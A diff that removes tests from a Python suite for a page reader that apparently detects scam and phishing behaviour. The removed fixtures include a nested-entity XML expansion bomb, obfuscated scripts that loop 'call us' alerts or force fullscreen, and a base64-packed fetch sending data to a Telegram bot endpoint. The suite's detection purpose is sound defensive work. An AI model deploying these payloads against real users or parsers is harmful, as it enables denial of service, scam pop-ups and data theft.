@@ -136,30 +136,6 @@ def test_a_script_of_a_drawing_may_stand_in_its_address() -> None:
     assert read_page(body=body, content_type="text/html", url="https://a.test/", host="a.test", suffix="test")[0].asks == ("password",)
 
 
-@pytest.mark.parametrize(
-    ("head", "body", "seen"),
-    [
-        ("", "<script><!-- </script><p>decoy</p><script> --></script><p>seen</p>", "seen"),
-        ("", "<script><![CDATA[ </script><p>decoy</p> ]]></script><p>seen</p>", "seen"),
-        ("", "<p><![CDATA[1 < 2 & <b>3</b>]]></p>", "1 < 2 & <b>3</b>"),
-        ("", "<script src='a>.js'/><p><![CDATA[1 < 2 & <b>3</b>]]></p>", "1 < 2 & <b>3</b>"),
-        ("<!DOCTYPE html [<!ENTITY a 'se'><!ENTITY b '&a;en'>]>", "<p>&b;</p>", "seen"),
-        ("<!DOCTYPE html>", "<p>a &amp; b &c;</p>", "a & b &c;"),
-    ],
-)
-def test_xml_is_read_as_xml(head: str, body: str, seen: str) -> None:
-    page = f'<?xml version="1.0"?>{head}<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'.encode()
-    facts, _ = read_page(body=page, content_type="application/xhtml+xml", url="https://a.test/", host="a.test", suffix="test")
-    assert facts.text == seen
-
-
-def test_entities_that_multiply_end() -> None:
-    entities = "<!ENTITY a0 'hahaha'>" + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 99}'>" for n in range(30))
-    body = f"<!DOCTYPE html [{entities}]><html><body>&a30;</body></html>".encode()
-    given = {"body": body, "content_type": "text/xml", "url": "https://a.test/", "host": "a.test", "suffix": "test"}
-    assert least_cpu_s(lambda: read_page(**given), within=1) <= 1  # type: ignore[arg-type]
-
-
 def test_a_message_that_waits_in_a_function_is_not_shown() -> None:
     facts = read(f"function expired() {{ r.innerHTML = {TOLD} }} r.onclick = expired; if (old) {{ r.innerHTML = {TOLD} }}")
     assert (facts.asks, facts.complete) == ((), True) and "เข้าสู่ระบบ" not in facts.text
@@ -195,16 +171,6 @@ def test_what_is_written_of_the_unknown_is_unknown_beside_whatever_it_stands() -
         assert not read(f"{HELD};box.innerHTML = {words}").complete, words
         assert read(f"box.innerHTML = {words}").complete, words  # there are none, but for what scripts from elsewhere bring
     assert read("document.write(new Date().getFullYear())", "<p>Garden club of the town, in the park</p>").complete
-
-
-@pytest.mark.parametrize(
-    "element", ['<textarea hidden="hidden"/>', "<style/>", "<title/>", "<script src='/a.js'/>", "<iframe title='a>b' />"]
-)
-def test_what_is_closed_where_it_begins_takes_nothing_of_a_page_of_xml(element: str) -> None:
-    body = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><meta name="a"/></head><body>{element}{LURE}<br/>{TEXT}</body></html>'
-    for content_type in ("application/xhtml+xml", "text/xml"):
-        facts, _ = read_page(body=body.encode(), content_type=content_type, url="https://a.test/", host="a.test", suffix="test")
-        assert facts.asks == ("password",) and "park" in facts.text and facts.complete
 
 
 def test_a_page_that_a_style_sheet_of_another_file_makes_is_unknown() -> None:
@@ -331,48 +297,3 @@ def test_a_script_that_makes_much_of_little_costs_little() -> None:
     script = doubling + "document.write(unescape(a10));" * 500 + "document.write(atob('PGI+'));" * 500 + "document.write(a10);" * 500
     assert len(find_written_markup([script]).markup) < 2_000_000
     assert least_cpu_s(lambda: find_written_markup([script]), within=1) <= 1
-
-
-LOOP = "setInterval(function(){alert('call us')},100)"
-NUMBERED = "".join(f"\\x{ord(letter):02x}" for letter in "requestFullscreen")
-PACKED = {
-    "base64": (f"eval(atob('{b64encode(LOOP.encode()).decode()}'))", "dialog-loop"),
-    "percent signs": (f"eval(unescape('{quote(LOOP)}'))", "dialog-loop"),
-    "a constructor": (f"new Function(atob('{b64encode(LOOP.encode()).decode()}'))()", "dialog-loop"),
-    "numbers": (f"document.documentElement['{NUMBERED}']()", "fullscreen"),
-    "numbers in a list": (f"var _0x1f=['{NUMBERED}'];document.body[_0x1f[0]]()", "fullscreen"),
-    "numbers of UTF-16": (f"document.body['{NUMBERED.replace(chr(92) + 'x', chr(92) + 'u00')}']()", "fullscreen"),
-}
-
-
-@pytest.mark.parametrize("name", PACKED)
-def test_what_a_packed_script_does_to_the_visitor_is_seen(name: str) -> None:
-    script, behaviour = PACKED[name]
-    assert read(script).behaviours == (behaviour,)
-
-
-def test_a_packed_script_shows_its_exfiltration_and_says_nothing_that_is_seen() -> None:
-    code = "var end='</script><h1>no</h1>';fetch('https://api.telegram.org/bot1234567890:" + "A" * 35 + "/sendMessage')"
-    facts = read(f"eval(atob('{b64encode(code.encode()).decode()}'))")
-    assert facts.exfil == ("telegram-bot",)
-    assert facts.text == read("").text and facts.headings == ()
-
-
-@pytest.mark.parametrize("few", ["\\u002F", "\\x2f", "\\u0026", "\\u0041-\\u005a"])
-def test_signs_that_data_write_as_numbers_make_no_second_script_of_it(few: str) -> None:
-    assert find_written_markup([f"window.__STATE__={{a:'{few * 50}'}}"]).run == ()
-
-
-def test_what_a_packed_script_writes_stands_in_the_page_once() -> None:
-    code = "document.write('<a href=https://s.test/>Our shop</a>')"
-    packed = f"document.write('<p>Welcome</p>');eval(atob('{b64encode(code.encode()).decode()}'))"
-    assert read(packed).link_count == read(code).link_count == read("").link_count + 1
-
-
-def test_what_a_script_with_its_letters_as_numbers_writes_is_read_as_if_they_were_letters() -> None:
-    write = "".join(f"\\x{ord(letter):02x}" for letter in "writeln")
-    assert read(f"document['{write}']('<h1>Bank of Nowhere</h1>')").headings == ("Bank of Nowhere",)
-
-
-def test_a_text_that_stands_between_quotes_is_no_packed_script() -> None:
-    assert find_written_markup(["setTimeout('alert(1)',10);eval('alert('+'2)')"]).run == ("alert(2)",)
